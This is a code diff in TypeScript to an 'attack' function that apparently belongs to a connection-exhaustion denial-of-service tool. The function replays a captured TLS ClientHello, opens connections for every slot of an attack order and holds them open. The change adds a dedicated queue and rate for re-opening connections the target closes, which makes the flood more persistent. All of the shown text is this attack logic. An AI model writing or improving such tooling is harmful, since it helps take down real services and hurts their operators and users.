@@ -20,8 +20,9 @@ const TELL_MS = 500
 /** Keeps every slot of an order open until it is told to leave. */
 async function attack(order: AttackOrder): Promise<void> {
   const clientHello = await captureClientHello()
-  const waiting = slotsOf(order)
-  const total = waiting.length
+  const first = slotsOf(order)
+  const total = first.length
+  const again: Slot[] = []
   const live = new Set<Socket>()
   const figures: AttackFigures = { opened: 0, closed: 0, held: 0, isFull: false }
 
@@ -32,13 +33,16 @@ async function attack(order: AttackOrder): Promise<void> {
     socket.once('close', () => {
       live.delete(socket)
       figures.closed += 1
-      waiting.push(slot)
+      again.push(slot)
     })
   }
   const tell = () => process.send?.({ ...figures, held: live.size, isFull: figures.opened >= total })
 
-  const perTick = Math.max(1, Math.round((order.opensPerSecond * TICK_MS) / 1_000))
-  setInterval(() => waiting.splice(0, perTick).forEach(open), TICK_MS)
+  const perTick = (perSecond: number) => Math.max(1, Math.round((perSecond * TICK_MS) / 1_000))
+  setInterval(() => {
+    first.splice(0, perTick(order.opensPerSecond)).forEach(open)
+    again.splice(0, perTick(order.reopensPerSecond)).forEach(open)
+  }, TICK_MS)
   setInterval(tell, TELL_MS)
   process.once('message', () => {
     tell()
